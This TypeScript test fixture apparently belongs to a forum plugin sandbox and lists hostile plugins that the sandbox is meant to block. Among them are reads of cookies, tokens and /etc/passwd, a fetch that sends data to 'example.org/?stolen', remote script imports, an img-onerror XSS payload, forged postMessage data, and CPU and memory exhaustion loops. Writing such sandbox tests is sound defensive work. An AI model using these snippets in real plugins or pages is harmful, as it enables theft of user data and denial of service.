/** A hostile browser plugin: what it tries, and its code. */
export interface Hostile {
  readonly tries: string
  /** Code that runs before the module returns its properties. */
  readonly setUp?: string
  /** The body of its component; renders a text by default. */
  readonly draw?: string
}

/**
 * Creates a plugin that tries to access something. `reach` is an expression that may be awaited; the plugin renders
 * whether that succeeded, and the result.
 */
const reaching = (tries: string, reach: string): Hostile => ({
  tries,
  draw: `
    const [found, setFound] = host.useState('waiting')
    host.useEffect(() => {
      const late = new Promise((done) => setTimeout(done, 3000, 'refused'))
      const work = async () => ${reach}
      Promise.race([work(), late])
        .then((value) => (value === undefined || value === null ? 'refused' : String(value).slice(0, 80)), () => 'refused')
        .then(setFound)
    }, [])
    return h(ui.Text, null, 'reached ' + ${JSON.stringify(tries)} + ': ' + found)`,
})

/** Accesses to something outside of the plugin's worker; each must be refused. */
export const reachers = (origin: string): readonly Hostile[] => [
  reaching('cookies', 'document.cookie'),
  reaching('local storage', "localStorage.getItem('token')"),
  reaching('session storage', 'sessionStorage.length'),
  reaching(
    'a database of the browser',
    "new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = done; asked.onerror = fail })",
  ),
  reaching('the cache storage', "caches.open('x')"),
  reaching('the page', 'parent.document.title'),
  reaching('the top window', "(top.location.href = 'https://example.org/')"),
  reaching('a popup', "open('https://example.org/')"),
  reaching('the own site', `fetch('${origin}/api/v3/forum', { credentials: 'include' })`),
  reaching('a foreign site', "fetch('https://example.org/?stolen', { mode: 'no-cors' })"),
  reaching(
    'an XMLHttpRequest',
    `new Promise((done, fail) => { const ask = new XMLHttpRequest(); ask.open('GET', '${origin}/api/v3/forum'); ask.onload = done; ask.onerror = fail; ask.send() })`,
  ),
  reaching(
    'a socket',
    "new Promise((done, fail) => { const socket = new WebSocket('wss://example.org'); socket.onopen = done; socket.onerror = fail })",
  ),
  reaching(
    'a stream',
    `new Promise((done, fail) => { const stream = new EventSource('${origin}/api/v3/stream'); stream.onopen = done; stream.onerror = fail })`,
  ),
  reaching('a script of another site', "import('https://example.org/x.js')"),
  reaching('a script of a data URL', "import('data:text/javascript,export default 1')"),
  reaching('a classic script', `importScripts('${origin}/api/v3/forum')`),
  reaching('code from a text', "new Function('return 7')()"),
  reaching('a worker of its own', "new Worker(URL.createObjectURL(new Blob(['for (;;);'])))"),
  reaching('a file', "import('file:///etc/passwd')"),
  reaching('the environment', 'process.env.PATH'),
  reaching('modules of a server', "require('node:fs')"),
  reaching('a service worker', "navigator.serviceWorker.register('/x.js')"),
  reaching('routes of another plugin', "host.call('GET', '../../good/api/secret')"),
  reaching('the site as the reader', "host.callSite('GET', 'user')"),
  reaching('its frozen props', "(() => { 'use strict'; props.site.lang = 'xx'; return 'changed' })()"),
]

/** Creates a plugin that sends forged messages to the page. */
const sending = (tries: string, ...messages: readonly string[]): Hostile => ({
  tries,
  setUp: `for (const message of ${JSON.stringify(messages)}) postMessage(message)`,
})

const described = (node: string) => `{"tree":{"id":1,"tree":${node}}}`

/** Plugins that attack the page by their rendering, errors or messages. */
export const attackers: readonly Hostile[] = [
  {
    tries: 'throws in its module',
    setUp: "throw new Error('hostile')",
  },
  { tries: 'exports no plugin', setUp: 'return null' },
  { tries: 'never finishes its start', setUp: 'return new Promise(() => {})' },
  { tries: 'throws while rendering', draw: "throw { toString() { throw new Error('hostile') } }" },
  {
    tries: 'throws in a hook',
    draw: "host.useMemo(() => { throw new Error('hostile') }, [])",
  },
  {
    tries: 'throws after rendering',
    draw: "host.useEffect(() => { setTimeout(() => { throw new Error('hostile') }) ; throw new Error('hostile') }, []); return null",
  },
  { tries: 'recurses', draw: 'const deeper = () => deeper() + 1; return deeper()' },
  {
    tries: 're-renders endlessly',
    draw: 'const [n, setN] = host.useState(0); setN(n + 1); return h(ui.Text, null, n)',
  },
  { tries: 'renders 10 MB', draw: "return h(ui.Text, null, 'x'.repeat(1e7))" },
  {
    tries: 'renders 100,000 elements',
    draw: "return h(ui.Stack, null, Array.from({ length: 1e5 }, () => h(ui.Text, null, 'x')))",
  },
  {
    tries: 'nests 3,000 elements',
    draw: "let one = 'x'; for (let i = 0; i < 3000; i += 1) one = h(ui.Stack, null, one); return one",
  },
  {
    tries: 'patches globals and prototypes',
    setUp: `JSON.stringify = () => '{}'; Array.prototype.map = () => { throw 1 }; Object.prototype.toJSON = () => 1
      Object.prototype.handler = 1; Promise.prototype.then = () => {}; postMessage('{"fault":"patched"}')`,
  },
  { tries: 'floods with messages', setUp: 'for (let i = 0; i < 1e5; i += 1) postMessage(\'{"pong":1}\')' },
  { tries: 'sends 10 MB', setUp: "postMessage('x'.repeat(1e7))" },
  { tries: 'sends an object instead of a text', setUp: 'postMessage({ tree: { id: 1, tree: [] } })' },
  sending('sends broken JSON', '{'),
  sending('sends messages without content', 'null', '7', '"text"', '[]'),
  sending('sends invalid trees', described('7')),
  sending('sends trees with holes', described('[null]')),
  sending('sends elements without props', described('[{"type":"Text"}]')),
  sending(
    'sends malformed faults',
    '{"fault":{"toString":1}}',
    '{"warnings":7}',
    '{"ask":{"n":1,"method":{},"route":[],"input":7}}',
  ),
  sending(
    'calls actions that do not exist',
    '{"act":{"id":1,"name":"__defineGetter__","args":[]}}',
    '{"act":{"id":1,"name":"toString"}}',
  ),
  sending(
    'describes elements that are not allowed',
    described(
      '[{"type":"script","props":{},"children":["document.title=\'taken\'"]},{"type":"iframe","props":{"src":"https://example.org"},"children":[]},{"type":"constructor","props":{},"children":[]}]',
    ),
  ),
  {
    tries: 'covers the page by its style',
    draw: `return h(ui.Card, {
      style: { position: 'fixed', inset: 0, zIndex: 999999 }, className: 'dialog', id: 'app', 'data-plugin': 'good',
      dangerouslySetInnerHTML: { __html: '<img src=x onerror="document.title=1">' }, ref: 'x', onClick: 'document.title = 1',
    }, h(ui.Link, { href: 'javascript:document.title=1' }, 'hostile link'),
      h(ui.Link, { href: '//example.org/' }, 'foreign link'),
      h(ui.Image, { src: 'https://example.org/stolen.png' }), h(ui.Image, { src: '/api/v3/users/logout' }))`,
  },
  {
    tries: 'opens a dialog without an interaction',
    draw: "return h(ui.Dialog, { open: true, title: 'hostile dialog' }, 'no way out')",
  },
  {
    tries: 'navigates without an interaction',
    setUp: "setInterval(() => host.go('/user/login'), 100)",
  },
  {
    tries: 'is a thousand screens high',
    draw: "return h(ui.Stack, null, h(ui.Image, { src: '/files/none.png', width: 1, height: 1e6 }), Array.from({ length: 900 }, () => h(ui.Text, null, 'high')))",
  },
]

/** Plugins that exhaust CPU or memory, one per page. */
export const hogs: readonly Hostile[] = [
  { tries: 'loops in its module', setUp: 'for (;;);' },
  { tries: 'loops while rendering', draw: 'for (;;);' },
  { tries: 'loops in a hook', draw: 'host.useEffect(() => { for (;;); }, []); return null' },
  { tries: 'loops in small steps', setUp: 'const step = () => Promise.resolve().then(step); step()' },
  { tries: 'fills the memory', setUp: "const all = []; for (;;) all.push('x'.repeat(1e6) + all.length)" },
]
